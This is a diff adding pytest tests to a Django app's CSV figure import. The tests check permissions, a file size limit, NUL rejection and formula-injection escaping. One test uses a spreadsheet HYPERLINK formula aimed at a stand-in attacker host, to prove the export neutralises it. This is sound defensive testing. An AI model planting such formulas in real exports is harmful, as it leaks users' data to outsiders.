@@ -5,6 +5,7 @@ import datetime
 import io
 
 import pytest
+from django.contrib.messages import get_messages
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import CommandError, call_command
 from django.db import connection
@@ -313,6 +314,81 @@ def test_the_admin_import_needs_the_add_permission(vocabulary, client, django_us
     viewer = django_user_model.objects.create_user("viewer", password="a-long-password-1", is_staff=True)
     client.force_login(viewer)
     assert client.get(reverse("admin:stats_figure_import")).status_code == 403
+
+
+def importer_with(django_user_model, *codenames: str):
+    from django.contrib.auth.models import Permission
+
+    user = django_user_model.objects.create_user("importer", password="a-long-password-1", is_staff=True)
+    user.user_permissions.add(*Permission.objects.filter(content_type__app_label="stats", codename__in=codenames))
+    return user
+
+
+def upload(client, text: str, name: str = "figures.csv"):
+    return client.post(reverse("admin:stats_figure_import"), {"file": SimpleUploadedFile(name, text.encode())})
+
+
+def test_the_admin_import_creates_reports_only_for_those_who_may_add_them(vocabulary, client, django_user_model):
+    client.force_login(importer_with(django_user_model, "add_figure", "view_figure"))
+    response = upload(client, csv_text(two_days()))
+    assert [str(message) for message in get_messages(response.wsgi_request)] == [
+        "Nothing was imported: 1 problem(s) in the file.",
+        "the file names 2 report(s) not yet recorded, and your account may not add reports; ask a curator",
+    ]
+    assert (Figure.objects.count(), Report.objects.count()) == (0, 0)
+
+
+def test_the_admin_import_changes_figures_only_for_those_who_may_change_them(vocabulary, client, django_user_model):
+    load(csv_text(two_days()))
+    client.force_login(importer_with(django_user_model, "add_figure", "add_report", "view_figure"))
+    rows = two_days()
+    rows[0]["value"] = "765200"
+    response = upload(client, csv_text(rows))
+    assert "your account may not change figures" in [str(m) for m in get_messages(response.wsgi_request)][1]
+    assert Figure.objects.filter(value=765200).count() == 0
+    assert upload(client, csv_text(two_days())).status_code == 302  # nothing to change: allowed
+
+
+def test_the_admin_import_refuses_a_file_over_its_limit_before_reading_it(vocabulary, client, curator, settings):
+    settings.ADMIN_IMPORT_MAX_BYTES = 1000
+    client.force_login(curator)
+    response = upload(client, csv_text(two_days() * 5))
+    assert response.status_code == 413
+    assert ("The file is larger than the admin imports (0.001 MB): split it, or import it with "
+            "`manage.py import_figures`, which has no limit.") in response.content.decode()
+    assert Figure.objects.count() == 0
+
+
+def test_a_nul_character_in_a_cell_is_named_by_line_and_column(vocabulary):
+    assert refused(csv_text([row(), row(quote="bad\x00byte", period_end="2024-12-15")])) == [
+        "line 3, column quote: NUL characters are not allowed."
+    ]
+
+
+def test_formula_protection_of_the_export_is_undone_on_import(vocabulary, client):
+    rows = [row(quote="=HYPERLINK(\"https://attacker.example/?leak=\"&A1)", notes="-5 on the day",
+                report_title="'Tis a report")]
+    load(csv_text(rows))
+    exported = b"".join(client.get("/api/v1/figures/export/").streaming_content).decode()
+    cells = next(csv.DictReader(io.StringIO(exported)))
+    assert (cells["quote"], cells["notes"], cells["report_title"]) == (
+        "'=HYPERLINK(\"https://attacker.example/?leak=\"&A1)", "'-5 on the day", "''Tis a report",
+    )
+    assert load(exported).unchanged == 1  # it imports back as it was
+    figure = Figure.objects.select_related("report").get()
+    assert (figure.quote, figure.notes, figure.report.title) == (
+        '=HYPERLINK("https://attacker.example/?leak="&A1)', "-5 on the day", "'Tis a report",
+    )
+
+
+@pytest.mark.parametrize(
+    ("cell", "stored"),
+    [("'=1+1", "=1+1"), ("'+1", "+1"), ("'-1", "-1"), ("'@x", "@x"), ("'\tx", "\tx"), ("'\rx", "\rx"),
+     ("''x", "'x"), ("'x", "'x"), ("'", "'"), ("x'=", "x'=")],
+)
+def test_the_importer_removes_one_protecting_quote_and_no_other(vocabulary, cell, stored):
+    load(csv_text([row(notes=cell)]))
+    assert Figure.objects.get().notes == stored
 
 
 def planner_statistics_of_figures() -> int:
